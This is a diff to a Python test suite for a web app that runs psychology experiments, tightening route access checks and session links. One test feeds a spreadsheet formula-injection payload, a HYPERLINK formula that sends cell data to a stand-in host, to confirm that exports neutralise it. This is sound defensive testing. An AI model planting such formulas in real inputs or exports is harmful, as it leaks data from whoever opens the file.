@@ -14,7 +14,7 @@ from machinepsych.participants.spec import ParticipantSpec
 from machinepsych.runner.plan import TaskRun
 from machinepsych.runner.run import run_sync
 from machinepsych.storage.schema import TrialRow
-from tests.web.helpers import ADMIN, AUTH, human_run
+from tests.web.helpers import ADMIN, AUTH, human_run, lab_url
 
 WCST = TaskRun(task="wcst", params={"n_trials": 12}, sessions=2)
 ADMIN_GETS = ["/admin", "/admin/results", "/results", "/results?run={run}", "/admin/runs/{run}",
@@ -40,8 +40,8 @@ def two(people):
     human = [s for s in people.store.sessions(run.id) if s.participant_name == "human"]
     agent = next(s for s in people.store.sessions(run.id) if s.participant_name != "human")
     a, b = people.browser(), people.browser()
-    assert a.get(f"/session/{human[0].id}").status_code == 200  # a lab computer takes session 0
-    assert b.get(f"/session/{human[1].id}").status_code == 200
+    assert a.get(lab_url(a, human[0].id)).status_code == 200  # a lab computer takes session 0 by its link
+    assert b.get(lab_url(b, human[1].id)).status_code == 200
     return run, human, agent, a, b
 
 
@@ -184,6 +184,7 @@ def test_markup_is_escaped_in_every_page_and_the_report(people, toys, tmp_path):
     sessions = people.store.sessions(run.id)
     person = next(s for s in sessions if s.participant_name == "human")
     b = people.browser()
+    b.get(lab_url(b, person.id))
     for i in range(3):
         r = b.post(f"/session/{person.id}/answer", json={"trial": i, "text": MARKUP, "rt_ms": 5})
         assert r.status_code == 200, r.text
@@ -207,8 +208,16 @@ def test_markup_is_escaped_in_every_page_and_the_report(people, toys, tmp_path):
 
 
 PARTICIPANT_ROUTES = {"/session/{session_id}", "/session/{session_id}/state", "/session/{session_id}/answer",
-                      "/session/{session_id}/consent", "/session/{session_id}/studied"}
-PUBLIC_ROUTES = {"/", "/s/{slug}"}
+                      "/session/{session_id}/consent", "/session/{session_id}/studied", "/session/{session_id}/shown",
+                      "/session/{session_id}/begin", "/session/{session_id}/events",
+                      "/session/{session_id}/attention"}
+PUBLIC_ROUTES = {"/", "/s/{slug}", "/s/{slug}/consent"}
+# routes checked in tests/web/test_researcher_tools.py: the preview (admin token, by study link)
+# and the annotators' own links (their token in the address; anything else is 404)
+OWN_TOKEN_ROUTES = {"/preview/{slug}", "/preview/{slug}/{token}", "/preview/{slug}/{token}/consent",
+                    "/preview/{slug}/{token}/studied", "/preview/{slug}/{token}/attention",
+                    "/preview/{slug}/{token}/answer", "/annotator/{token}", "/annotator/{token}/{run}",
+                    "/annotator/{token}/{run}/mine"}
 
 
 def test_every_route_is_a_participant_public_or_admin_route(people, two):
@@ -228,14 +237,17 @@ def test_every_route_is_a_participant_public_or_admin_route(people, two):
     routes = list(api_routes(people.app.routes))
     assert len(routes) >= 12
     for route in routes:
-        if route.path in PUBLIC_ROUTES:
+        if route.path in PUBLIC_ROUTES or route.path in OWN_TOKEN_ROUTES:
             continue
         path = (route.path.replace("{session_id}", str(human[1].id)).replace("{run:path}", run.name)
                 .replace("{run}", run.name))
         for method in route.methods:
             if route.path in PARTICIPANT_ROUTES:  # browser a does not hold session human[1]
                 body = ({"agree": True} if path.endswith("consent") else {"trial": 0, "phase": "test"}
-                        if path.endswith("studied") else {"trial": 0, "action": 1, "rt_ms": 5})
+                        if path.endswith("studied") else {} if path.endswith(("shown", "begin"))
+                        else {"kind": "focus", "data": {"event": "blur"}} if path.endswith("events")
+                        else {"trial": 2, "choice": "Red"} if path.endswith("attention")
+                        else {"trial": 0, "action": 1, "rt_ms": 5})
                 r = a.request(method, path, json=body if method == "POST" else None)
                 assert r.status_code == 403, (method, path, r.status_code)
             else:
@@ -256,6 +268,7 @@ def test_exports_do_not_hand_spreadsheets_a_formula(people, toys):
     run = human_run(people.store, [TaskRun(task="toy-recall", sessions=1)], "csv1")
     sid = people.store.sessions(run.id)[0].id
     b = people.browser()
+    b.get(lab_url(b, sid))
     typed = ['=HYPERLINK("http://x.example/?"&A1)', "-1", "@SUM(A1:A9)"]
     for i, text in enumerate(typed):
         assert b.post(f"/session/{sid}/answer", json={"trial": i, "text": text.replace(" ", ""), "rt_ms": 5}).status_code == 200
